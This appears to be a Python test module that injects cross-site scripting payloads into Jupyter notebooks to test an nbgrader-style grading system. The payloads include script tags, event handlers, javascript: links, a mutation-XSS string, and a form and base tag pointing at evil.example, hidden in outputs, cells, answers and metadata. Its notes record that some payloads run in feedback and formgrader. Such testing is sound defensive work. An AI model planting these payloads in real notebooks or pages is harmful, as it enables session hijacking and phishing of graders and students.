"""Attacks on whoever reads: HTML, scripts, markdown, drawings, in outputs, in answers and in names."""

from __future__ import annotations

import nbformat
from nbformat.notebooknode import NotebookNode

from tests.attacks.attack import Attack, doing

KIND = "pages"
TEXTS = (
    "<script>EVIL()</script>",
    "<img src=x onerror=EVIL()>",
    "<svg onload=EVIL()><circle r=1></circle></svg>",
    "<svg><script>EVIL()</script></svg>",
    "<iframe srcdoc='<script>EVIL()</script>'></iframe>",
    "<form action=https://evil.example><button>Full credit</button></form>",
    "<a href='javascript:EVIL()'>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=EVIL()&gt;'>",
    "<base href=https://evil.example><meta http-equiv=refresh content=0>",
)
KINDS = ("text/html", "image/svg+xml", "text/markdown", "application/javascript", "text/latex")


def _published(kind: str) -> str:
    return doing(f"for text in {TEXTS!r}: display({{{kind!r}: text}}, raw=True)")


def _written(book: NotebookNode) -> None:
    for text in TEXTS:
        book.cells.append(nbformat.v4.new_markdown_cell(text))
    book.cells.append(nbformat.v4.new_raw_cell(TEXTS[0]))


def _named(book: NotebookNode) -> None:
    for number, text in enumerate(TEXTS):
        cell = nbformat.v4.new_code_cell("1")
        cell["id"] = text
        cell.metadata["nbgrader"] = {
            "grade_id": text,
            "grade": True,
            "points": 1,
            "solution": False,
            "locked": True,
        }
        cell.metadata["name"], cell.metadata["tags"] = text, [text]
        book.cells.insert(number, cell)
    book.metadata["title"] = TEXTS[0]
    book.metadata["language_info"] = {"name": TEXTS[0], "file_extension": TEXTS[1]}


ATTACKS = [Attack(f"{kind} that acts", KIND, _published(kind)) for kind in KINDS]
ATTACKS += [
    Attack("a picture that is a page", KIND, doing("display({'image/png': '\"><script>EVIL()</script>'}, raw=True)")),
    Attack("a widget", KIND, doing("display({'application/vnd.jupyter.widget-view+json': {'model_id': '</script><script>EVIL()</script>'}}, raw=True)")),
    Attack("an exception that is a page", KIND, "class E(Exception): pass\nE.__name__ = E.__qualname__ = '<script>EVIL()</script>'\nraise E('<script>EVIL()</script>')"),
    Attack("terminal colours that are a page", KIND, doing("print('\\x1b[31m<script>EVIL()</script>\\x1b]8;;javascript:EVIL()\\x07x')")),
    Attack("an answer's value that is a page", KIND, answer="def triple(x):\n    return '<script>EVIL()</script>'"),
    Attack("an answer's error that is a page", KIND, answer="def triple(x):\n    raise ValueError('<script>EVIL()</script><img src=x onerror=EVIL()>')"),
    Attack("a function named like a page", KIND, answer="globals()['<script>EVIL()</script>'] = lambda x: x\ndel triple"),
    Attack("markdown and raw cells that act", KIND, bend=_written),
    Attack("cells named like pages", KIND, bend=_named),
]  # fmt: skip
MEASURED = {
    "text/html that acts": "runs in feedback and formgrader",
    "text/markdown that acts": "runs in feedback and formgrader",
}
